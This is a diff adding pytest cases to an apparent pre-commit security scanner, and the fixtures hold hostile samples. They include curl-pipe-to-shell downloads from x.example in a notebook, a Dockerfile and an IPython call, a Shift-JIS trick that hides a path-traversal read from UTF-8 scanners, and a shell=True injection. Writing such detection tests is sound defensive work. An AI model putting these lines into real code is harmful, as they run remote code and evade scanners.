@@ -183,3 +183,51 @@ def test_notebooks_are_judged_by_their_code_cells(seeded: Repo) -> None:
     seeded.write("analysis.ipynb", notebook("import pandas as pd\n",
                                             "!curl -s https://x.example/i.sh | bash\n"))
     assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["analysis.ipynb"])
+
+
+def test_a_git_lfs_pointer_is_opaque(seeded: Repo) -> None:
+    seeded.write("models/model.pkl", "version https://git-lfs.github.com/spec/v1\n"
+                 "oid sha256:" + "4d" * 32 + "\nsize 1234\n")
+    fc = classes(explain(staged(seeded)))["models/model.pkl"]
+    assert fc.file.binary and "Git LFS pointer" in fc.file.view and fc.tier == "medium"
+
+
+def test_scanners_read_legacy_encodings_as_python_does(seeded: Repo) -> None:
+    # 0x955C is one Shift-JIS character whose second byte is an ASCII backslash: read as UTF-8
+    # bytes, the string swallows its closing quote and the call after it looks like string text
+    # (path traversal: a semgrep rule, which reads files as UTF-8; bandit would decode them)
+    source = ("# -*- coding: shift_jis -*-\nfrom flask import request\n\ndef download():\n"
+              "    label = \"\u30bd\"; return open(request.args['f']).read()  # \"\n")
+    seeded.write("app/run.py", source.encode("shift_jis"))
+    decision = check(staged(seeded))
+    assert decision.outcome is Outcome.BLOCK, sast_rules(decision)
+
+
+@pytest.mark.parametrize("head", ['#!/bin/sh\n"exec" "/usr/bin/env" "python3" "$0" "$@"\n',
+                                  "#!/bin/sh\n''''exec python3 -u -- \"$0\" \"$@\" #'''\n",
+                                  "#!/usr/bin/env -S uv run --script\n",
+                                  "#! /usr/bin/python3.12 -I\n"])
+def test_python_scripts_in_any_spelling_are_scanned(seeded: Repo, head: str) -> None:
+    seeded.write("bin/tool", head + "import subprocess\nsubprocess.call(input(), shell=True)\n")
+    decision = check(staged(seeded))
+    assert decision.outcome is Outcome.BLOCK, sast_rules(decision)
+
+
+@pytest.mark.parametrize(("path", "text"), [
+    ("pytest.ini", "[pytest]\naddopts = -p tools.plugin\n"),
+    (".pylintrc", "[MAIN]\ninit-hook='import tools'\n"),
+    ("docs/conf.py", "project = 'x'\n"),
+    ("lefthook.yml", "pre-commit:\n  commands: {}\n"),
+    ("package.json", '{\n  "scripts": {\n    "postinstall": "node x.js"\n  }\n}\n'),
+    ("pyproject.toml", "[tool.pylint.main]\ninit-hook = 'import tools'\n"),
+    ("deploy/Dockerfile", "FROM python:3.12\nRUN curl -sSf https://x.example/i.sh | sh\n"),
+])
+def test_configuration_that_runs_code_is_high(seeded: Repo, path: str, text: str) -> None:
+    seeded.write(path, text)
+    fc = classes(explain(staged(seeded)))[path]
+    assert fc.tier == "high" and "runs-code" in categories(fc), fc.matches
+
+
+def test_ipython_shell_calls_in_notebooks_are_dangerous(seeded: Repo) -> None:
+    seeded.write("nb.ipynb", notebook("get_ipython().system('curl -s x.example | sh')\n"))
+    assert "dangerous-calls" in categories(classes(explain(staged(seeded)))["nb.ipynb"])
